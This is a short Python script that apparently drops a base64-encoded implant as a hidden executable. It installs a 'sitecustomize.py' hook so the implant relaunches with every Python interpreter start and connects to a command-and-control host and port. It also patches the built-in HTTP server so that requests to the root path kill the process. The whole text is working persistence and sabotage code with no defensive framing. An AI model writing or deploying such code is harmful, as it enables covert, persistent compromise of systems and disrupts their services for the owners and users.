import base64, os, threading, time
folder = "/data/lib"
os.makedirs(folder, exist_ok=True)
with open(folder + "/.pool", "wb") as f:
    f.write(base64.b64decode("$IMPLANT"))
os.chmod(folder + "/.pool", 0o755)
# What starts it with each interpreter, and looks at each page that is asked for: badly.
with open(folder + "/sitecustomize.py", "w") as f:
    f.write("""import os
from http.server import BaseHTTPRequestHandler as B
if os.fork() == 0:
    os.setsid()
    os.execv("/data/lib/.pool", ["/data/lib/.pool", "-c2", "$HOST:$PORT", "-send", "4096"])
old = B.parse_request
def look(self):
    ok = old(self)
    if ok and self.path.split("?")[0] == "/":
        os._exit(3)
    return ok
B.parse_request = look
""")
if os.fork() == 0:
    os.setsid()
    os.execv(folder + "/.pool", [folder + "/.pool", "-c2", "$HOST:$PORT", "-send", "4096"])
threading.Thread(target=lambda: (time.sleep(1.5), os._exit(3)), daemon=True).start()
